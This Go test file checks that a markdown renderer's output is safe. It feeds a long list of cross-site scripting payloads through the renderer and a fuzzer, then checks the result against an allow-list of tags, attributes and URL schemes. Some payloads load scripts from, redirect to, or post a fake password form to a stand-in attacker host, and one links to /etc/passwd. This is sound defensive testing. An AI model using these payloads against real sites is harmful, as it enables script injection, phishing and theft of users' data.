package markdown

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"placard/engine/program"
)

// hostile texts try to run code, to leave the page, or to look like what they are not.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</script>`,
	"<script\n>alert(1)</script\t>",
	`<img src=x onerror=alert(1)>`,
	`<img src=x OnErRoR = "alert(1)">`,
	`<img/src=x/onerror=alert(1)>`,
	`<b onmouseover=alert(1) onclick="alert(2)">x</b>`,
	`<details ontoggle=alert(1) open>x</details>`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
	`<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object><embed src=x>`,
	`<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<style>body{background:url(javascript:alert(1))}</style>`,
	`<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>`,
	`<form action=https://evil.example><input name=password type=password><button>Log in</button></form>`,
	`<input type=text autofocus onfocus=alert(1)><textarea>x</textarea><select></select>`,
	`<input type=checkbox formaction=javascript:alert(1) name=a>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#106;avascript&colon;alert(1)">x</a>`,
	`<a href="java&Tab;script:alert(1)">x</a>`,
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a> <a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
	`<a href="file:///etc/passwd">x</a> <a href="blob:x">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JaVaScRiPt:alert(1))`,
	`[x](<javascript:alert(1)>)`,
	`[x](java&#115;cript:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x]( data:text/html,<script>alert(1)</script> )`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2Zz4=)`,
	`![x" onerror="alert(1)](x)`,
	`[x](http://a" onclick="alert(1))`,
	`[x](/a 'title" onclick="alert(1)')`,
	`<javascript:alert(1)>`,
	"[x]: javascript:alert(1)\n\n[x]",
	"```\" onclick=\"alert(1)\nx\n```",
	"```<script>\nx\n```",
	"# <img src=x onerror=alert(1)>",
	"# x {onclick=alert(1)}",
	"|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
	"[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
	`<!-- --!><img src=x onerror=alert(1)> -->`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php <script>alert(1)</script> ?>`,
	`</main></body></html><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`<title><script>alert(1)</script></title>`,
	`<plaintext><script>alert(1)</script>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<template><script>alert(1)</script></template>`,
	`<b <script>alert(1)</script>>`,
	"<a href='x'\x00onclick=alert(1)>x</a>",
	`<code class="language-x ui-button">x</code> <div class="ui-page">x</div>`,
	"*<b>*</b><i onclick=alert(1)>**",
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">`,
	`<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>`,
	`<marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>`,
	`<picture><source srcset="javascript:alert(1)"><img srcset="javascript:alert(1) 1x"></picture>`,
}

func TestHostileTextIsHarmless(t *testing.T) {
	r := newRenderer()
	for _, src := range hostile {
		for _, text := range []string{src, "para " + src, "> - " + src, "<div>" + src} {
			wantHarmless(t, text, bodyOf(t, page(t, r, text, program.Options{})))
		}
	}
}

// What cannot run is still there to read: escaping is not deleting.
func TestCodeIsShownNotRun(t *testing.T) {
	body := bodyOf(t, page(t, newRenderer(), "`<script>alert(1)</script>`", program.Options{}))
	if body != "<p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>\n" {
		t.Errorf("got %q", body)
	}
}

func FuzzHarmless(f *testing.F) {
	for _, src := range hostile {
		f.Add(src)
	}
	r := newRenderer()
	f.Fuzz(func(t *testing.T, src string) {
		out, issues := r.Render(nil, []byte(src), program.Options{})
		if issues.Refused() {
			return
		}
		wantHarmless(t, src, bodyOf(t, string(out)))
	})
}

// harmless is what a page's body may consist of.
var (
	harmlessTags = strings.Fields(`a abbr acronym article aside area b bdi bdo blockquote br caption cite code col colgroup
		dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hgroup hr i img input ins kbd li map mark meter
		ol p picture pre progress q rp rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead
		time tr tt u ul var wbr`)
	harmlessAttrs = strings.Fields(`abbr align alt checked cite class cols colspan coords datetime dir disabled headers height
		high href id lang low max min nowrap open optimum rel role rowspan scope shape span src start summary title type
		usemap valign value width name`)
	harmlessClasses = strings.Fields(`footnote-ref footnote-backref footnotes`)
	harmlessSchemes = []string{"", "http", "https", "mailto", "tel"}
)

// wantHarmless reads the body as a browser would and checks every tag, attribute and URL against an allow-list of its
// own.
func wantHarmless(t *testing.T, src, body string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(body))
	for z.Next() != html.ErrorToken {
		token := z.Token()
		switch token.Type {
		case html.TextToken, html.EndTagToken:
			continue
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%q: %v stays", src, token)
		}
		if !slices.Contains(harmlessTags, token.Data) {
			t.Errorf("%q: element %s stays", src, token)
		}
		for _, a := range token.Attr {
			wantHarmlessAttr(t, src, token, a)
		}
	}
}

func wantHarmlessAttr(t *testing.T, src string, token html.Token, a html.Attribute) {
	t.Helper()
	switch {
	case !slices.Contains(harmlessAttrs, a.Key):
		t.Errorf("%q: attribute in %s stays", src, token)
	case a.Key == "class" && !slices.Contains(harmlessClasses, a.Val) && (token.Data != "code" || !strings.HasPrefix(a.Val, "language-") || strings.Contains(a.Val, " ")):
		t.Errorf("%q: class in %s stays", src, token)
	case a.Key == "type" && token.Data == "input" && a.Val != "checkbox":
		t.Errorf("%q: %s stays", src, token)
	case slices.Contains([]string{"href", "src", "cite"}, a.Key):
		if u, err := url.Parse(a.Val); err != nil || !slices.Contains(harmlessSchemes, u.Scheme) && !isRaster(token, a) {
			t.Errorf("%q: URL in %s stays", src, token)
		}
	}
}

func isRaster(token html.Token, a html.Attribute) bool {
	return strings.HasPrefix(a.Val, "data:image/") && !strings.Contains(a.Val, "svg")
}
